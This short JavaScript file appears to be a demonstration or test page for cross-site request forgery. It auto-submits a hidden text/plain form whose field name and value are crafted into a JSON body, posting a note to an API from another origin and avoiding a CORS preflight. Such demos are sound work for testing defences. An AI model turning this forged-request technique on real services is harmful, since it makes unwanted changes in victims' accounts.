// A form post as any page on another origin can send it, no script API needed: text/plain, so
// there is no preflight, with a field name and value that make the body JSON the API accepts
// (`{"text":"…","pad":"="}`), the classic way a form forges a JSON request.
const call = new URLSearchParams(location.search).get("call") ?? "";
const { api } = await (await fetch("/config.json")).json();

const form = document.createElement("form");
form.method = "post";
form.enctype = "text/plain";
form.action = `${api}/api/notes?demo-call=${encodeURIComponent(call)}`;
const field = document.createElement("input");
Object.assign(field, { type: "hidden", name: `{"text":"added by a form on ${location.origin}","pad":"`, value: '"}' });
form.append(field);
document.body.append(form);
form.submit();
